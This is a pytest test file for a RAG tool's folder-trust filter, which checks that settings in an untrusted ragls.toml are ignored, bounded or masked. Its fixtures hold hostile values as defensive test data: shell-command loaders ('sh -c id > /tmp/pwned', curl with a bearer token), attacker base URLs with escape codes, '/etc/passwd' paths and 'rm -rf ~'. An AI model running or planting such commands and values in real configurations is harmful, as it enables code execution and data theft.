"""Folder trust (ragls/config/trust.py, ragls/config/trust_filter.py) on real files: which settings an untrusted ragls.toml keeps,
how the store's path + hash decides, and the editor's word (VS Code Workspace Trust, Neovim vim.secure)."""

from __future__ import annotations

import json
import os

import pytest
from ragls.config import trust
from ragls.config.settings import Settings
from ragls.config.trust_filter import SAFE, folder_layer, load_settings, restrict
from ragls.core.errors import ConfigError

HOSTILE = """
top_k = 3
rag_chunk_size = 800
[sources]
exclude = ["drafts/"]
exclude_secrets = false
[retrieval]
rerankBackend = "evil.module:Reranker"
hyde = true
[embedding]
model_path = "/opt/models/x"
[generation]
baseUrl = "http://203.0.113.9/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
personal_kb = "/etc/passwd"
temperature = 0.3
auto_start = true
[observability]
otel_endpoint = "http://203.0.113.9:4318"
[document_loaders]
md = "sh -c 'id > /tmp/pwned' $1"
"""


@pytest.fixture
def store(tmp_path, monkeypatch):
    monkeypatch.setenv("RAGLS_DATA_DIR", str(tmp_path / "data"))
    return tmp_path / "data" / "trusted-folders.json"


def test_untrusted_file_keeps_only_retrieval_tuning_and_says_so_in_one_line(tmp_path, store):
    (tmp_path / "ragls.toml").write_text(HOSTILE)
    s, warnings = load_settings(tmp_path)
    assert (s.retrieval.top_k, s.chunking.chunk_size, s.sources.exclude) == (3, 800, ["drafts/"])
    assert s.generation.temperature == 0.3
    assert s.document_loaders == {} and s.generation.base_url is None and s.generation.api_key_env is None
    assert s.generation.personal_kb is None and not s.generation.auto_start and s.sources.exclude_secrets
    assert s.retrieval.rerank_backend is None and not s.retrieval.hyde and s.embedding.model_path is None
    assert s.observability.otel_endpoint is None
    [line] = [w for w in warnings if "ignored" in w]
    assert line.startswith(f"{tmp_path / 'ragls.toml'} is not trusted")
    for name in ("sources.exclude_secrets", "retrieval.rerank_backend", "retrieval.hyde", "embedding.model_path",
                 "generation.base_url", "generation.api_key_env", "generation.personal_kb", "generation.auto_start",
                 "observability.otel_endpoint", "document_loaders"):
        assert name in line
    assert "top_k" not in line and "temperature" not in line
    assert line.endswith(f"run `ragls trust {tmp_path}` to use them")


def test_trust_applies_the_file_until_it_changes(tmp_path, store):
    (tmp_path / "ragls.toml").write_text(HOSTILE)
    entry = trust.trust(tmp_path)
    assert entry.folder == str(tmp_path.resolve()) and entry.config_hash.startswith("sha256:")
    s, warnings = load_settings(tmp_path)
    assert s.document_loaders == {"md": "sh -c 'id > /tmp/pwned' $1"}
    assert s.generation.base_url == "http://203.0.113.9/v1" and warnings == []
    assert oct(store.stat().st_mode & 0o777) == "0o600"
    (tmp_path / "ragls.toml").write_text(HOSTILE + "\n# one more line\n")
    s, warnings = load_settings(tmp_path)
    assert s.document_loaders == {} and "changed since you trusted it" in warnings[-1]
    assert trust.revoke(tmp_path) and not trust.revoke(tmp_path) and trust.trusted_folders() == []


def test_a_folder_trusted_without_a_ragls_toml_asks_again_when_one_appears(tmp_path, store):
    trust.trust(tmp_path)
    assert trust.trusted_folders()[0].config_hash == trust.NO_FILE
    (tmp_path / "ragls.toml").write_text('[document_loaders]\nmd = "cat $1"\n')
    assert load_settings(tmp_path)[0].document_loaders == {}


def test_the_editors_word_wins_over_the_store(tmp_path, store):
    (tmp_path / "ragls.toml").write_text(HOSTILE)
    assert load_settings(tmp_path, {"workspaceTrusted": True})[0].generation.base_url == "http://203.0.113.9/v1"
    trust.trust(tmp_path)
    s, warnings = load_settings(tmp_path, {"ragls": {"workspaceTrusted": False, "retrieval": {"topK": 7}}})
    assert s.generation.base_url is None and s.retrieval.top_k == 7  # restricted mode; editor settings apply
    assert "the editor has not trusted this workspace" in warnings[-1]
    assert not any("unknown setting" in w for w in warnings)  # workspaceTrusted is not a setting


def test_the_editors_word_holds_for_the_version_of_the_file_the_user_approved(tmp_path, store):
    """Neovim's vim.secure.read approves one version of ragls.toml and the client sends its hash with
    workspaceTrusted: the file as approved applies in full; edited after the approval, it does not (the store
    decides, and says the file changed); a bare hex digest and a "ragls" wrapper are read too."""
    approved = HOSTILE.encode()
    (tmp_path / "ragls.toml").write_bytes(approved)
    word = {"workspaceTrusted": True, "workspaceTrustedConfigs": {str(tmp_path): trust.config_hash(approved)}}
    s, warnings = load_settings(tmp_path, word)
    assert s.generation.base_url == "http://203.0.113.9/v1" and warnings == []
    bare = {"ragls": {"workspaceTrusted": True,
                      "workspaceTrustedConfigs": {str(tmp_path): trust.config_hash(approved).split(":")[1]}}}
    assert load_settings(tmp_path, bare)[0].document_loaders == {"md": "sh -c 'id > /tmp/pwned' $1"}
    (tmp_path / "ragls.toml").write_text(HOSTILE.replace("203.0.113.9/v1", "198.51.100.7/v1"))  # edited since
    s, warnings = load_settings(tmp_path, word)
    assert s.generation.base_url is None and s.document_loaders == {}
    assert "is not trusted" in warnings[-1] and "unknown setting" not in " ".join(warnings)
    trust.trust(tmp_path, approved)  # the store has the approved version only: still not this one
    assert "changed since you trusted it" in load_settings(tmp_path, word)[1][-1]
    # A folder the editor approved no file of (one added to Neovim's workspace later): the store decides (red team,
    # session 53: it was trusted on the word about another folder)
    other = {"workspaceTrusted": True, "workspaceTrustedConfigs": {str(tmp_path / "elsewhere"): "sha256:00"}}
    assert load_settings(tmp_path, other)[0].generation.base_url is None
    assert load_settings(tmp_path, {"workspaceTrusted": True})[0].generation.base_url is not None  # VS Code's word


def test_editor_settings_are_the_users_and_never_filtered(tmp_path, store):
    (tmp_path / "ragls.toml").write_text("[retrieval]\ntop_k = 4\n")
    s, warnings = load_settings(tmp_path, {"generation": {"baseUrl": "http://127.0.0.1:9/v1", "apiKeyEnv": "K"}})
    assert (s.generation.base_url, s.generation.api_key_env, s.retrieval.top_k) == ("http://127.0.0.1:9/v1", "K", 4)
    assert warnings == []  # nothing was ignored: no notice for a file that only tunes retrieval


def test_index_path_needs_trust_even_inside_the_folder(tmp_path, store):
    """A folder that picks its own index directory could ship a ready-made one (planted links, poisoned stores)."""
    folder = tmp_path / "ws"
    folder.mkdir()
    (folder / "ragls.toml").write_text('[index]\npath = ".ragls-index"\nann_threshold = 10\n')
    s, warnings = load_settings(folder)
    assert s.index.path is None and s.index.ann_threshold == 10 and "index.path" in warnings[-1]
    trust.trust(folder)
    assert load_settings(folder)[0].index.path == ".ragls-index"


def test_rags_tables_of_an_untrusted_folder(tmp_path, store):
    folder = tmp_path / "ws"
    (folder / "docs").mkdir(parents=True)
    rags = {"docs": {"sources": ["docs/**/*.md", "pdf:docs/manual.pdf"], "top_k": 2, "index": {"path": "x"}},
            "abs": {"sources": [str(folder / "docs")]},
            "up": {"sources": ["../private"]}, "glob_up": {"sources": ["docs/**/../../../etc/*"]},
            "home": {"sources": "~/notes"}, "web": {"sources": ["https://example.com/**"]},
            "semi": {"sources": ["docs/a.md;/etc/passwd"]},
            "qdrant": {"sources": ["docs"], "qdrant": {"url": "http://203.0.113.9:6333", "collection": "c"}},
            "notatable": "docs"}
    data, ignored = restrict({"rags": rags}, folder)
    assert set(data["rags"]) == {"docs", "abs"}
    assert data["rags"]["docs"] == {"sources": ["docs/**/*.md", "pdf:docs/manual.pdf"], "retrieval": {"top_k": 2}}
    assert ignored[0].value == "x" and ignored[1].value == rags["up"]
    assert [i.label for i in ignored] == ["rags.docs.index.path", "rags.up (a source outside the folder)",
                       "rags.glob_up (a source outside the folder)", "rags.home (a source outside the folder)",
                       "rags.web (a URL source)", "rags.semi (a source outside the folder)",
                       "rags.qdrant (not only sources and settings)", "rags.notatable"]


def test_a_broken_store_trusts_nothing(tmp_path, store):
    (tmp_path / "ragls.toml").write_text('[document_loaders]\nmd = "cat $1"\n')
    store.parent.mkdir(parents=True)
    for body in ("not json", json.dumps(["x"]), json.dumps({"folders": {str(tmp_path): "yes"}})):
        store.write_text(body)
        assert folder_layer(tmp_path).trusted is False
    os.chmod(tmp_path / "ragls.toml", 0)
    if os.geteuid() != 0:  # root reads it anyway
        with pytest.raises(ConfigError, match="ragls.toml"):
            folder_layer(tmp_path)


def test_every_allowed_name_is_a_setting():
    """The allow-list names real fields (a renamed setting must not silently fall out of it)."""
    for section, fields in SAFE.items():
        model = Settings.model_fields[section].annotation
        assert set(fields) <= set(model.model_fields), section  # type: ignore[union-attr]


BIG_NUMBERS = """
[sources]
max_file_bytes = 1000000000000
[embedding]
threads = 1000000
batch_size = 1000000
[chunking]
chunk_size = 5
[retrieval]
vector_weight = nan
rrf_k = inf
[generation]
max_context_chars = 1000000000
[rags.notes]
sources = ["notes/"]
embedding = {batch_size = 99999}
"""


def test_untrusted_numbers_are_bounded_with_a_warning_naming_setting_and_bound(tmp_path, store):
    """An untrusted ragls.toml cannot claim a million ONNX threads, a terabyte file bound or the user's whole LLM
    context: each number past `FOLDER_MAX` (or the schema's bound) is used at the bound, one below the minimum gets
    the default, nan is left out — the folder still opens, and a warning names each setting and the value used."""
    from ragls.config.trust_filter import FOLDER_MAX

    (tmp_path / "notes").mkdir()
    (tmp_path / "ragls.toml").write_text(BIG_NUMBERS)
    s, warnings = load_settings(tmp_path)
    assert s.sources.max_file_bytes == FOLDER_MAX["sources"]["max_file_bytes"] == 20_000_000
    assert s.embedding.threads == (os.cpu_count() or 1) and s.embedding.batch_size == 16
    assert s.chunking.chunk_size == 2000  # below the minimum 100: the default
    assert s.retrieval.vector_weight == 1.125 and s.retrieval.rrf_k == 10_000.0
    assert s.generation.max_context_chars == 120_000
    said = "\n".join(warnings)
    assert "embedding.threads = 1000000 in the folder's ragls.toml is above" in said
    assert "sources.max_file_bytes" in said and "20,000,000 is used" in said
    assert "chunking.chunk_size = 5" in said and "the default 2000 is used" in said
    assert "retrieval.vector_weight = nan" in said and "retrieval.rrf_k = inf" in said
    assert "embedding.batch_size = 99999" in said  # a [rags.NAME] table's settings too
    layer = folder_layer(tmp_path)
    # an exclusive minimum is not "below its minimum 0", a setting without a default not "the default None"
    (tmp_path / "ragls.toml").write_text("[sources]\nmax_file_bytes = 0\n[embedding]\nwindow = 1\n")
    said = "\n".join(load_settings(tmp_path)[1])
    assert "sources.max_file_bytes = 0 in the folder's ragls.toml is not above 0, as it must be: the default" in said
    assert "embedding.window = 1 in the folder's ragls.toml is below its minimum 32: it is left unset" in said
    assert "None" not in said and "minimum 0" not in said, said
    assert layer.data["rags"]["notes"]["embedding"] == {"batch_size": 16}


def test_an_untrusted_overlap_not_below_the_chunk_size_is_left_out_and_the_folder_opens(tmp_path, store):
    """Each number within its bounds, yet `chunk_overlap` (up to FOLDER_MAX's 10,000) not below the chunk size (the
    default 2,000, or the folder's own): every command stopped with "invalid settings in .../ragls.toml:
    chunking.chunk_overlap must be smaller than chunking.chunk_size", a cloned folder that never opens. The
    overlap is left out (the default 5 %) with a warning naming both; the user's own or a trusted file's conflict
    stays an error, as any invalid value of theirs."""
    (tmp_path / "ragls.toml").write_text("[sources]\ninclude = [\"notes/**\"]\n[chunking]\nchunk_overlap = 9000\n")
    s, warnings = load_settings(tmp_path)
    assert (s.chunking.chunk_size, s.chunking.chunk_overlap, s.sources.include) == (2000, None, ["notes/**"])
    assert any("chunking.chunk_overlap = 9000 in the folder's ragls.toml is not below chunking.chunk_size 2000: "
               "left out (the default 5 % is used)" in w for w in warnings), warnings
    with pytest.raises(ConfigError, match="chunk_overlap must be smaller"):
        load_settings(tmp_path, {"chunking": {"chunk_overlap": 2500}})  # the user's own value
    trust.trust(tmp_path)
    with pytest.raises(ConfigError, match="chunk_overlap must be smaller"):
        load_settings(tmp_path)


def test_the_users_own_numbers_get_the_wider_schema_bounds(tmp_path, store):
    """The user's settings (editor, user config) and a trusted folder are not held to `FOLDER_MAX`: only the
    schema's bounds, and past them the value is an error naming the setting, as any invalid value of theirs."""
    (tmp_path / "ragls.toml").write_text("[embedding]\nthreads = 512\n")
    s, _ = load_settings(tmp_path, {"embedding": {"threads": 64, "batch_size": 256}})
    assert (s.embedding.threads, s.embedding.batch_size) == (64, 256)
    with pytest.raises(ConfigError, match="embedding.threads"):
        load_settings(None, {"embedding": {"threads": 1_000_000}})
    with pytest.raises(ConfigError, match="retrieval.bm25_weight"):
        load_settings(None, {"retrieval": {"bm25_weight": float("inf")}})
    trust.trust(tmp_path)
    assert load_settings(tmp_path)[0].embedding.threads == 512  # trusted: the file's own value, within the schema


def test_an_untrusted_folder_cannot_choose_a_model_download(tmp_path, store):
    """Before trust nothing the folder writes reaches the network: a model it names (embedding, cross-encoder,
    ColBERT — or an ONNX reranker, whose default model a first use downloads) is ignored and named in the notice;
    the user's own default embedding model is used (and downloaded, as for any folder). Trusted, the file applies."""
    (tmp_path / "ragls.toml").write_text('[embedding]\nmodel = "intfloat/multilingual-e5-large"\n'
                                         '[retrieval]\nrerank_backend = "colbert"\n'
                                         'reranker_model = "Xenova/ms-marco-MiniLM-L-12-v2"\n'
                                         'colbert_model = "answerdotai/answerai-colbert-small-v1"\n')
    s, warnings = load_settings(tmp_path)
    default = Settings()
    assert s.embedding.model == default.embedding.model and s.retrieval.rerank_backend is None
    assert s.retrieval.reranker_model is None and s.retrieval.colbert_model == default.retrieval.colbert_model
    [line] = [w for w in warnings if "not trusted" in w]
    for name in ("embedding.model", "retrieval.rerank_backend", "retrieval.reranker_model", "retrieval.colbert_model"):
        assert name in line
    (tmp_path / "ragls.toml").write_text('[retrieval]\nrerank_backend = "none"\n')  # turning reranking off is fine
    assert load_settings(tmp_path)[1] == []
    trust.trust(tmp_path)
    (tmp_path / "ragls.toml").write_text('[embedding]\nmodel = "intfloat/multilingual-e5-large"\n')
    trust.trust(tmp_path)
    assert load_settings(tmp_path)[0].embedding.model == "intfloat/multilingual-e5-large"


def test_an_untrusted_folder_cannot_switch_off_the_users_gitignore(tmp_path, store):
    """`.gitignore` keeps the user's own untracked files out of a clone's index (a `terraform.tfvars`, local notes,
    `*.tfstate`): a folder's `respect_gitignore = false` would index them for search, prompts and agents (red team,
    session 48). It is ignored and named in the notice; `true` (stricter) applies; trusted, the file applies."""
    (tmp_path / "ragls.toml").write_text("[sources]\nrespect_gitignore = false\n")
    s, warnings = load_settings(tmp_path)
    assert s.sources.respect_gitignore is True
    [line] = [w for w in warnings if "not trusted" in w]
    assert "sources.respect_gitignore" in line
    (tmp_path / "ragls.toml").write_text("[sources]\nrespect_gitignore = true\n")
    assert load_settings(tmp_path)[1] == []
    (tmp_path / "ragls.toml").write_text("[sources]\nrespect_gitignore = false\n")
    trust.trust(tmp_path)
    assert load_settings(tmp_path)[0].sources.respect_gitignore is False


def test_an_untrusted_folder_cannot_give_its_pdfs_more_time(tmp_path, store):
    """Without trust `sources.loader_timeout_s` bounds only the built-in PDF reader, whose whole time a folder's PDF
    can claim (a few kB that parse for hours): a folder may lower it, not raise it past the default."""
    (tmp_path / "ragls.toml").write_text("[sources]\nloader_timeout_s = 600\n")
    s, warnings = load_settings(tmp_path)
    assert s.sources.loader_timeout_s == 120 and any("sources.loader_timeout_s = 600" in w for w in warnings)
    (tmp_path / "ragls.toml").write_text("[sources]\nloader_timeout_s = 30\n")
    assert load_settings(tmp_path)[0].sources.loader_timeout_s == 30


def test_a_huge_ragls_toml_is_not_read(tmp_path, store):
    """Every command and server start reads and parses a folder's ragls.toml: a clone's 55 MB file of `kN = N` lines
    kept `ragls query` parsing for over 5 minutes (red team, session 53). Past MAX_CONFIG_BYTES it is an error
    naming the file, like a file that does not parse; a file of that size is read."""
    line = "# padding to the bound\n"
    body = "[retrieval]\ntop_k = 4\n"
    (tmp_path / "ragls.toml").write_text(body + line * ((trust.MAX_CONFIG_BYTES - len(body)) // len(line)))
    assert load_settings(tmp_path)[0].retrieval.top_k == 4
    with (tmp_path / "ragls.toml").open("a") as f:
        f.write("k = 1\n" * 10)
    with pytest.raises(ConfigError, match="ragls.toml: larger than 1,000,000 bytes"):
        load_settings(tmp_path)


def test_a_ragls_toml_nested_past_the_recursion_limit_or_saved_with_a_bom(tmp_path, store):
    """A 200 kB file of `a = [[[[…]]]]` ended every command (and the index path lookup) with a RecursionError
    traceback: now an error naming the file, like a syntax error. A file saved with a BOM (a Windows editor's) read
    as "Invalid statement (at line 1, column 1)": now it is read."""
    from ragls.index.paths import configured_index_dir, default_index_dir

    (tmp_path / "ragls.toml").write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(ConfigError, match="ragls.toml: nested too deeply"):
        load_settings(tmp_path)
    assert configured_index_dir(tmp_path) == default_index_dir(tmp_path.resolve())  # the settings load says why
    (tmp_path / "ragls.toml").write_bytes(b"\xef\xbb\xbf[retrieval]\ntop_k = 3\n")
    assert load_settings(tmp_path)[0].retrieval.top_k == 3


def test_a_ragls_toml_linking_out_of_an_untrusted_folder_is_not_read(tmp_path, store):
    """A folder is untrusted input and reads nothing outside it until trusted: a clone's `ragls.toml ->
    ~/.config/other/settings.toml` (or /etc/…) was opened and parsed by every command. Untrusted, it is not read: one
    notice says so and how to trust; once trusted (the store, or the editor's word) it is read as before."""
    folder, outside = tmp_path / "clone", tmp_path / "elsewhere.toml"
    folder.mkdir()
    outside.write_text("[retrieval]\ntop_k = 3\n")
    (folder / "ragls.toml").symlink_to(outside)
    s, warnings = load_settings(folder)
    assert s.retrieval.top_k == 5
    assert any(f"{folder / 'ragls.toml'} is a link to a file outside the folder ({outside}), so it was not read; "
               f"read it, then run `ragls trust {folder}` to use it" in w for w in warnings), warnings
    outside.write_text("a = " + "[" * 100_000 + "]" * 100_000 + "\n")  # nothing of it is parsed either
    assert load_settings(folder)[0].retrieval.top_k == 5
    outside.write_text("[retrieval]\ntop_k = 3\n")
    assert load_settings(folder, {"workspaceTrusted": True})[0].retrieval.top_k == 3
    trust.trust(folder)
    assert load_settings(folder)[0].retrieval.top_k == 3


def test_what_trusting_applies_is_shown_with_its_values_escaped_and_masked(tmp_path, store):
    """`ragls trust` and the terminal's [y/N] question list each setting trusting adds with the file's value
    (`cli.trust.ignored_values`), as JSON: an ESC in a hostile value cannot drive the terminal, and a key written
    into the file is masked like any secret value."""
    from ragls.cli.trust import ignored_values

    (tmp_path / "ragls.toml").write_text(
        '[generation]\nbase_url = "http://attacker.test/v1\\u001b[2J"\n'
        '[document_loaders]\nmd = "curl -H \'Authorization: Bearer sk-proj-Zq7Lm2Rt9Vb4Nc8Kd1FgZq7Lm2Rt9Vb4Nc8Kd1Fg\' $1"\n'
        '[retrieval]\ntop_k = 3\n[rags.loot]\nsources = ["../private"]\ndescription = "keys"\n')
    layer = folder_layer(tmp_path)
    lines = ignored_values(layer)
    assert lines[0] == 'generation.base_url = "http://attacker.test/v1\\u001b[2J"'
    assert lines[1].startswith('document_loaders.md = "curl -H ') and "sk-p****" in lines[1]
    assert lines[2:] == ['rags.loot.sources = ["../private"]', 'rags.loot.description = "keys"']
    assert "Zq7Lm2Rt9" not in lines[1] and len(lines) == 4 and "\x1b" not in "".join(lines)
    assert "rags.loot (a source outside the folder)" in layer.notice and "../private" not in layer.notice


def test_what_trusting_applies_shows_a_long_list_by_its_first_items_and_its_count(tmp_path, store, capsys):
    """50,000 include globs printed 889 KB at `ragls trust` (and in --show, and in the terminal's question): a list
    shows its first 20 items (`cli.trust.SHOWN_ITEMS`) and how many the file holds; the values are applied whole all the same."""
    from ragls.cli.app import main

    globs = [f"d{i}/*.md" for i in range(50_000)]  # 700 KB: under the 1 MB a settings file may have
    (tmp_path / "ragls.toml").write_text(f"[sources]\ninclude = {json.dumps(globs)}\n"
                                         '[rags.loot]\nsources = ["../a", "../b", "../c"]\n')
    assert main(["trust", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert len(out) < 4_000, len(out)
    [line] = [x for x in out.splitlines() if "sources.include" in x]
    assert line.strip() == (f"sources.include = {json.dumps(globs[:20])} ... and 49,980 more "
                            "(50,000 in all: read the file)")
    assert 'rags.loot.sources = ["../a", "../b", "../c"]' in out  # a short list whole
    assert load_settings(tmp_path)[0].sources.include == globs


def test_what_trusting_applies_shows_a_long_string_by_its_two_ends_and_what_is_hidden(tmp_path, store, capsys):
    """An 800 KB prompt template and a 100 KB URL were printed whole by `ragls trust`, `--show` and `--show --json` (the
    Neovim plugin's question): a value's JSON shows its first 800 and last 200 characters
    (`cli.trust.SHOWN_HEAD`, `SHOWN_TAIL`) and how many lie between; a short one stays whole, and the file's values
    are applied whole all the same."""
    from ragls.cli.app import main

    template = "Answer __INPUT__ from __CONTEXT__. " + "x" * 800_000 + " then run rm -rf ~"
    url = "http://203.0.113.9/" + "a" * 100_000 + "/v1"
    (tmp_path / "ragls.toml").write_text(f"[generation]\ntemplate = {json.dumps(template)}\n"
                                         f"base_url = {json.dumps(url)}\n"
                                         '[document_loaders]\nmd = "pandoc -t plain $1"\n')
    for args in (["trust", "--show", str(tmp_path)], ["trust", "--show", "--json", str(tmp_path)],
                 ["trust", str(tmp_path)]):
        assert main(args) == 0
        out = capsys.readouterr().out
        assert len(out) < 4_000, (args, len(out))
        lines = json.loads(out)["settings"] if "--json" in args else [x.strip() for x in out.splitlines()]
        [t] = [x for x in lines if x.startswith("generation.template = ")]
        shown = json.dumps(template)
        assert t == (f"generation.template = {shown[:800]} ... [{len(shown) - 1000:,} characters hidden: read the file]"
                     f" ... {shown[-200:]}")
        assert t.endswith('then run rm -rf ~"') and "[799,0" in t  # the end of the value, and how much is hidden
        [u] = [x for x in lines if x.startswith("generation.base_url = ")]
        assert u.startswith('generation.base_url = "http://203.0.113.9/aaa') and u.endswith('aaa/v1"')
        assert "[99,024 characters hidden: read the file]" in u
        assert 'document_loaders.md = "pandoc -t plain $1"' in lines  # a short value whole
    settings = load_settings(tmp_path)[0]
    assert settings.generation.template == template and settings.generation.base_url == url


def test_an_untrusted_file_gives_its_glob_lists_at_most_5000_patterns_together(tmp_path, store):
    """Brace sets count as what they expand to: 1,000 globs `dN{0..1023}/*.md` (22 KB) cost 76 CPU-s and 1.4 GB
    to index with, and as [rags.*] sources 32 CPU-s of the trust check itself at every command."""
    (tmp_path / "docs").mkdir()
    braces = [f"d{i}{{0..1023}}/*.md" for i in range(5)] + ["docs/*.md"]  # 5,121 patterns
    plain = [f"d{i}/**/*.md" for i in range(4_000)]
    (tmp_path / "ragls.toml").write_text(
        f"[sources]\ninclude = {json.dumps(braces)}\nexclude = {json.dumps(plain)}\n"
        f"[rags.small]\nsources = {json.dumps(plain[:900] + ['docs/*.md'])}\n"
        f"[rags.late]\nsources = {json.dumps(plain[:200])}\n"
        f"[rags.semi]\nsources = [\"docs/a.md;docs/b{{1..50}}.md\"]\n")
    s, warnings = load_settings(tmp_path)
    assert s.sources.include == Settings().sources.include  # the default's
    assert s.sources.exclude == plain
    layer = folder_layer(tmp_path)
    assert set(layer.data["rags"]) == {"small", "semi"}  # 4,000 + 901 + 51 patterns fit; `late`'s 200 more do not
    assert [i.label for i in layer.ignored] == [
        "sources.include (more than 5,000 glob patterns in the file)",
        "rags.late (more than 5,000 glob patterns in the file)"]
    [line] = [w for w in warnings if "ignored" in w]
    assert "sources.include (more than 5,000 glob patterns in the file)" in line
    trust.trust(tmp_path)
    assert load_settings(tmp_path)[0].sources.include == braces  # trusting applies it whole


def test_an_untrusted_folder_cannot_multiply_its_windows_or_chunks(tmp_path, store):
    """Windows every 8 wordpieces (the schema's least) made ten times the default's vectors (two flask-docs pages:
    119 -> 1,160 windows, 16.7 -> 95.9 CPU-s to index); small windows multiply them as well. An untrusted ragls.toml
    gets `FOLDER_MIN` at least, with a warning; the user's own settings and a trusted file do not."""
    (tmp_path / "ragls.toml").write_text("[chunking]\nchunk_size = 300\n[embedding]\nwindow = 64\nwindow_stride = 8\n"
                                         "[rags.notes]\nsources = [\"docs\"]\nembedding = {window_stride = 16}\n")
    s, warnings = load_settings(tmp_path)
    assert (s.chunking.chunk_size, s.embedding.window, s.embedding.window_stride) == (300, 128, 64)
    said = "\n".join(warnings)
    assert ("embedding.window_stride = 8 in the folder's ragls.toml is below 64, the least an untrusted folder may "
            "set: 64 is used") in said
    assert "embedding.window = 64" in said and "chunk_size" not in said
    assert folder_layer(tmp_path).data["rags"]["notes"]["embedding"] == {"window_stride": 64}
    assert load_settings(tmp_path, {"embedding": {"window_stride": 8}})[0].embedding.window_stride == 8  # the user's
    trust.trust(tmp_path)
    assert load_settings(tmp_path)[0].embedding.window_stride == 8
